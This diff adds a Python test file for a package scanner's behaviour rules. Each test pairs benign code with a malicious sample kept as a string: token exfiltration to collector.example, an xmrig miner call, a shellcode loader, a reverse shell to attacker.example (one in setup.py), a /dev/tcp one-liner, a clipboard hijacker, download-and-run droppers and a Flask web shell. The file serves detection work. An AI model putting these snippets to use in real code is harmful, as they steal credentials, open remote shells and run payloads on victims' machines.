@@ -1,0 +1,217 @@
+"""Behaviour rules: each with a malicious snippet and the benign code that looks like it."""
+
+from __future__ import annotations
+
+from rulekit import ids, py, run
+
+from pipvet.analysis.rules import behaviour
+from pipvet.models import Severity, Stage
+
+R = behaviour.RULES
+
+
+def test_constructor_patched_at_import_with_a_sender() -> None:
+    bad = py(
+        "import requests\n"
+        "from cryptopay import CryptoPay\n"
+        "_orig = CryptoPay.__init__\n"
+        "def _init(self, token, *a, **k):\n"
+        "    requests.post('https://collector.example/t', data={'t': token})\n"
+        "    _orig(self, token, *a, **k)\n"
+        "CryptoPay.__init__ = _init\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-BEH-MONKEYPATCH"]
+    assert found
+    assert found[0].severity is Severity.HIGH
+    assert found[0].line == 7
+
+
+def test_patching_inside_an_explicit_function_and_config_tweaks_do_not_fire() -> None:
+    benign = py(
+        "import socket, ssl, sys, json\n"
+        "def patch_all():\n"
+        "    socket.socket = _GreenSocket\n"
+        "ssl._create_default_https_context = ssl._create_unverified_context\n"
+        "sys.excepthook = lambda *a: None\n"
+        "json.encoder.FLOAT_REPR = repr\n"
+        "class _GreenSocket: pass\n"
+    )
+    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, benign))
+
+
+def test_cryptominer() -> None:
+    bad = py("import os\nos.system('./xmrig -o stratum+tcp://pool.example:3333 -u 4' + 'A' * 94)\n")
+    found = [f for f in run(R, bad) if f.rule == "PV-BEH-MINER"]
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+    benign = py("def mine(rows):\n    '''Data mining over rows.'''\n    return [r for r in rows if r]\n")
+    assert run(R, benign) == []
+
+
+def test_shellcode_loader_and_memfd() -> None:
+    bad = py(
+        "import ctypes\n"
+        "k = ctypes.windll.kernel32\n"
+        "p = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n"
+        "k.RtlMoveMemory(p, sc, len(sc))\n"
+        "k.CreateThread(0, 0, p, 0, 0, 0)\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-BEH-FILELESS"]
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+    memfd = py(
+        "import os\nfd = os.memfd_create('x')\nos.write(fd, payload)\n"
+        "os.execv(f'/proc/self/fd/{fd}', ['x'])\n"
+    )
+    assert "PV-BEH-FILELESS" in ids(run(R, memfd))
+    benign = py("import os\nfd = os.memfd_create('buffer')\nos.write(fd, b'cache')\n")
+    assert run(R, benign) == []
+
+
+def test_sandbox_evasion_needs_several_indicators() -> None:
+    bad = py(
+        "import psutil\n"
+        "BAD = ['vboxservice.exe', 'vmtoolsd.exe', 'wireshark.exe', 'x64dbg.exe', 'procmon.exe']\n"
+        "if any(p.name().lower() in BAD for p in psutil.process_iter()): raise SystemExit\n"
+    )
+    found = run(R, bad)
+    assert found
+    assert found[0].rule == "PV-BEH-EVASION"
+    assert found[0].severity is Severity.HIGH
+    benign = py("HINT = 'capture traffic with Wireshark'\n")
+    assert run(R, benign) == []
+
+
+def test_clipboard_hijack_versus_clipboard_helper() -> None:
+    bad = py(
+        "import re, pyperclip\n"
+        "BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
+        "while True:\n"
+        "    if BTC.match(pyperclip.paste()):\n"
+        "        pyperclip.copy('1BoatSLRHtKNngkdXEeobR76b53LETtpyT')\n"
+    )
+    found = run(R, bad)
+    assert found
+    assert found[0].rule == "PV-BEH-CLIPPER"
+    assert found[0].severity is Severity.CRITICAL
+    benign = py("import pyperclip\ndef copy_result(text):\n    pyperclip.copy(text)\n")
+    assert run(R, benign) == []
+
+
+def test_reverse_shell_in_setup() -> None:
+    bad = py(
+        "import socket, os, pty\n"
+        "s = socket.socket(); s.connect(('attacker.example', 4444))\n"
+        "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
+        "pty.spawn('/bin/sh')\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    found = run(R, bad)
+    assert found
+    assert found[0].rule == "PV-BEH-REVSHELL"
+    assert found[0].stage is Stage.INSTALL
+    one_liner = py("import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/8080 0>&1')\n")
+    assert "PV-BEH-REVSHELL" in ids(run(R, one_liner))
+    benign = py("import os, pty\ndef spawn_terminal(fd):\n    os.dup2(fd, 0)\n    pty.spawn('/bin/sh')\n")
+    assert run(R, benign) == []
+
+
+def test_launching_a_download_versus_opening_a_document() -> None:
+    bad = py(
+        "import os, urllib.request, tempfile\n"
+        "p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
+        "urllib.request.urlretrieve('https://files.example/upd.exe', p)\n"
+        "os.startfile(p)\n"
+    )
+    assert "PV-BEH-LAUNCH" in ids(run(R, bad))
+    benign = py("import os\ndef launch(path):\n    os.startfile(path)\n")
+    assert run(R, benign) == []
+
+
+def test_web_shell_versus_ordinary_web_app() -> None:
+    bad = py(
+        "import subprocess\n"
+        "from flask import Flask, request\n"
+        "app = Flask(__name__)\n"
+        "@app.route('/x')\n"
+        "def x():\n"
+        "    return subprocess.Popen(request.args.get('c'), shell=True, stdout=-1).stdout.read()\n"
+        "app.run(host='0.0.0.0', port=54689)\n"
+    )
+    found = run(R, bad)
+    assert [f.rule for f in found] == ["PV-BEH-REVSHELL"]
+    assert found[0].severity is Severity.HIGH
+    benign = py(
+        "from flask import Flask, request\n"
+        "app = Flask(__name__)\n"
+        "@app.route('/x')\n"
+        "def x():\n"
+        "    return request.args.get('name', '')\n"
+        "if __name__ == '__main__':\n"
+        "    app.run(host='127.0.0.1')\n"
+    )
+    assert run(R, benign) == []
+
+
+def test_start_command_on_a_download() -> None:
+    bad = py(
+        "import os, urllib.request\n"
+        "def drop():\n"
+        "    path = os.getenv('TEMP') + '\\\\Bin.exe'\n"
+        "    open(path, 'wb').write(urllib.request.urlopen('https://x.example/b').read())\n"
+        "    os.system(f'start {path}')\n"
+    )
+    assert "PV-BEH-LAUNCH" in ids(run(R, bad))
+    benign = py("import os\ndef open_docs():\n    os.system('start https://docs.example/')\n")
+    assert run(R, benign) == []
+
+
+def test_dropper_from_a_raw_ip_is_critical() -> None:
+    bad = py(
+        "import os, requests\n"
+        "def fetch():\n"
+        "    exe = os.getenv('TEMP') + '\\\\svc.exe'\n"
+        "    open(exe, 'wb').write(requests.get('http://45.13.7.9/all.txt').content)\n"
+        "    os.system(f'start /B {exe}')\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-BEH-LAUNCH"]
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+
+
+def test_miner_config_written_by_setup() -> None:
+    bad = py(
+        'open(\'/tmp/config.json\', \'w\').write(\'{"cpu": true, "pools": [{"url": "pool.example:3333", '
+        '"nicehash": true}]}\')\n',
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert "PV-BEH-MINER" in ids(run(R, bad))
+    benign = py("POOLS = {'pools': 4}\nconfig = {'max_pool_size': 10}\n")
+    assert run(R, benign) == []
+
+
+def test_memfd_for_certificates_is_not_fileless_execution() -> None:
+    benign = py(
+        "import os, subprocess\n"
+        "# write the bytes to anonymous in-memory files using memfd_create; yields /proc/self/fd/... paths\n"
+        "def paths(cert):\n"
+        "    fd = os.memfd_create('cert', os.MFD_CLOEXEC)\n"
+        "    os.write(fd, cert)\n"
+        "    return f'/proc/self/fd/{fd}'\n"
+        "def provider(cmd):\n"
+        "    return subprocess.run(cmd, capture_output=True)\n"
+    )
+    assert run(R, benign) == []
+
+
+def test_configuring_a_local_app_object_is_not_patching() -> None:
+    benign = py(
+        "from fastapi import FastAPI\n"
+        "app = FastAPI()\n"
+        "def custom_openapi():\n"
+        "    return {}\n"
+        "app.openapi = custom_openapi\n"
+    )
+    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, benign))
